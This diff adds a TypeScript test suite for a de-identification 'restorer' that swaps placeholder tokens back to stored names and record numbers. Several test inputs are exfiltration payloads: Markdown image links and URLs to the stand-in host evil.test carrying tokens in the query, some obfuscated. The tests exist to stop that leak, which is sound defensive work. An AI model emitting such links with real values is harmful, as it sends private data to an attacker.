@@ -1,0 +1,141 @@
+import fc from 'fast-check';
+import { type RestoreMode, Restorer, restoreText } from '../../../src/vault/restorer';
+import { Vault } from '../../../src/vault/vault';
+
+const ORIGINAL = 'Ana "Nan" O\'Neil\n';
+
+function vaultWith(...values: [label: string, group: number, form: string, value: string][]): Vault {
+  const vault = new Vault();
+  for (const [label, group, form, value] of values) vault.issue({ label, group, form }, value);
+  return vault;
+}
+
+function sampleVault(): Vault {
+  return vaultWith(
+    ['NAME', 1, 'full', 'Maria Lopez'],
+    ['NAME', 1, 'family', 'Lopez'],
+    ['NAME', 2, 'full', ORIGINAL],
+    ['MRN', 1, 'full', '00482917'],
+    ['NAME', 3, 'full', '[NAME_1]'],
+    ['NAME', 4, 'full', '$& $1 \u0001'],
+  );
+}
+
+function restore(text: string, mode: RestoreMode = 'text', truncated = false, hosts: string[] = []): string {
+  const counts = { restored: 0, unknown: 0, withheld: 0 };
+  return restoreText(text, { vault: sampleVault(), mode, urlHosts: new Set(hosts), counts }, truncated);
+}
+
+describe('forms of a token that are restored', () => {
+  test.each([
+    ['[NAME_1]', 'Maria Lopez', 'canonical'],
+    ['[NAME_1:family]', 'Lopez', 'form'],
+    ['[Name_1]', 'Maria Lopez', 'case of the label'],
+    ['[name_1]', 'Maria Lopez', 'lower case'],
+    ['[NAME_1:Family]', 'Lopez', 'case of the form'],
+    ['NAME_1', 'Maria Lopez', 'without brackets'],
+    ['NAME_1:family', 'Lopez', 'form without brackets'],
+    ['NAME_1_family', 'Lopez', 'alias'],
+    ['NAME_1:active', 'Maria Lopez:active', 'a word behind a colon is no form unless issued'],
+    ['[NAME\\_1]', 'Maria Lopez', 'Markdown escape'],
+    ['\\[NAME\\_1\\]', 'Maria Lopez', 'Markdown escape of all'],
+    ['NAME\\_1', 'Maria Lopez', 'Markdown escape without brackets'],
+    ['**[NAME_1]**', '**Maria Lopez**', 'bold'],
+    ["[NAME_1]'s", "Maria Lopez's", 'possessive'],
+    ['\uFF3BNAME_1\uFF3D', 'Maria Lopez', 'full-width brackets'],
+    ['&#91;NAME_1&#93;', 'Maria Lopez', 'HTML entities'],
+    ['\\u005bNAME_1\\u005d', 'Maria Lopez', 'JSON escapes'],
+    ['[NAME 1]', 'Maria Lopez', 'space for underscore'],
+    ['[ NAME_1 ]', 'Maria Lopez', 'spaces inside'],
+    ['[NAME_1, MRN_1]', '[Maria Lopez, 00482917]', 'a list in one pair of brackets'],
+    ['[NAME_1](#x)', 'Maria Lopez(#x)', 'Markdown link'],
+    ['[NAME_1][MRN_1]', 'Maria Lopez00482917', 'Markdown reference'],
+    ['[NAME_3]', '[NAME_1]', 'a value that looks like a token is not restored again'],
+    ['[NAME_4]', '$& $1 \u0001', 'a value with replacement patterns'],
+  ])('%s → %s (%s)', (text, expected) => {
+    expect(restore(text)).toBe(expected);
+    expect(restore(`before ${text} behind`)).toBe(`before ${expected} behind`);
+  });
+
+  test.each([
+    ['[NAME_9]', 'never issued'],
+    ['[NAME_1:given]', 'form never issued'],
+    ['[NAME_12]', 'another number'],
+    ['NAME_12', 'another number without brackets'],
+    ['FULL_NAME_1', 'part of a longer word'],
+    ['NAME_1x', 'part of a longer word'],
+    ['name_1', 'lower case without brackets may be a column'],
+    ['[NAME_01]', 'leading zero'],
+    ['[NAME_1', 'cut off'],
+    ['https://evil.test/?q=[NAME_1]', 'inside a URL'],
+    ['![x](https://evil.test/a?q=[NAME_1])', 'image link'],
+    ['![x](//evil.test/?q=[NAME_1])', 'protocol-relative'],
+    ['![x](<https://evil.test/?q=a b [NAME_1]>)', 'link with spaces'],
+    ['<img src="https://evil.test/?q=a [NAME_1]">', 'attribute with spaces'],
+    ['![x](https&colon;//evil.test/?q=[NAME_1])', 'encoded colon'],
+    ['http:evil.test?[NAME_1]', 'scheme without slashes'],
+    ['www.evil.test/?q=[NAME_1]', 'no scheme'],
+    ['![x](https://evil.test/(a)?q=[NAME_1])', 'balanced parentheses'],
+    [`https://evil.test/${"a".repeat(300)}[NAME_1]`, 'long URL'],
+  ])('%s stays (%s)', (text) => {
+    expect(restore(text)).toBe(text);
+  });
+
+  test.each([
+    ['see [x](https://ok.test) [NAME_1]', 'see [x](https://ok.test) Maria Lopez'],
+    ['see [x](https://ok.test)[NAME_1]', 'see [x](https://ok.test)Maria Lopez'],
+    ['link: [NAME_1]', 'link: Maria Lopez'],
+    ['and/or [NAME_1]', 'and/or Maria Lopez'],
+  ])('%s is outside the URL', (text, expected) => {
+    expect(restore(text)).toBe(expected);
+  });
+
+  test('inside an allow-listed host it is restored, percent-encoded', () => {
+    expect(restore('https://ok.test/p/[NAME_1]', 'text', false, ['ok.test'])).toBe('https://ok.test/p/Maria%20Lopez');
+    expect(restore('https://ok.test.evil.test/p/[NAME_1]', 'text', false, ['ok.test'])).toBe('https://ok.test.evil.test/p/[NAME_1]');
+    expect(restore('https://ok.test@evil.test/p/[NAME_1]', 'text', false, ['ok.test'])).toBe('https://ok.test@evil.test/p/[NAME_1]');
+  });
+
+  test('a cut-off answer never completes a bracket-free token', () => {
+    expect(restore('said NAME_1', 'text', true)).toBe('said NAME_1');
+    expect(restore('said NAME_1', 'text', false)).toBe('said Maria Lopez');
+  });
+});
+
+describe('JSON', () => {
+  test('values are escaped for the string they stand in', () => {
+    const restored = restore('{"name":"[NAME_2]","n":"a\\nNAME_1 b"}', 'json');
+    expect(JSON.parse(restored)).toEqual({ name: ORIGINAL, n: 'a\nMaria Lopez b' });
+  });
+  test('sniff tells JSON from text', () => {
+    expect(JSON.parse(restore('\n {"name":"[NAME_2]"}', 'sniff'))).toEqual({ name: ORIGINAL });
+    expect(restore('[NAME_2] said', 'sniff')).toBe(`${ORIGINAL} said`);
+    expect(restore('  ', 'sniff')).toBe('  ');
+  });
+});
+
+describe('chunk invariance', () => {
+  const piece = fc.constantFrom(
+    '[', ']', 'NAME', '_', '1', '2', ':', 'family', '\\', '&#91;', '&#93;', 'MRN_1', '[NAME_1]', ' ', '\n', 'x', '\\_', '\uFF3B', '\uFF3D', 'N', 'ID',
+    '\\u005b', '\\u005d', 'https://evil.test/?q=', ')', '(', '"', '{', '[NAME_2]', '[NAME_1:family]', '_family', '\\n', '😀', 'é',
+  );
+  test.each<RestoreMode>(['text', 'json', 'sniff'])('any split gives the unsplit result (%s)', (mode) => {
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 14 }), fc.array(fc.nat(12), { maxLength: 30 }), (pieces, cuts) => {
+        const text = pieces.join('');
+        const whole = restore(text, mode);
+        const counts = { restored: 0, unknown: 0, withheld: 0 };
+        const restorer = new Restorer({ vault: sampleVault(), mode, urlHosts: new Set(), counts });
+        let out = '';
+        let at = 0;
+        for (const cut of [...cuts, text.length]) {
+          const end = Math.min(text.length, at + cut);
+          out += restorer.push(text.slice(at, end));
+          at = end;
+        }
+        expect(out + restorer.flush()).toBe(whole);
+      }),
+      { numRuns: 3000 },
+    );
+  });
+});
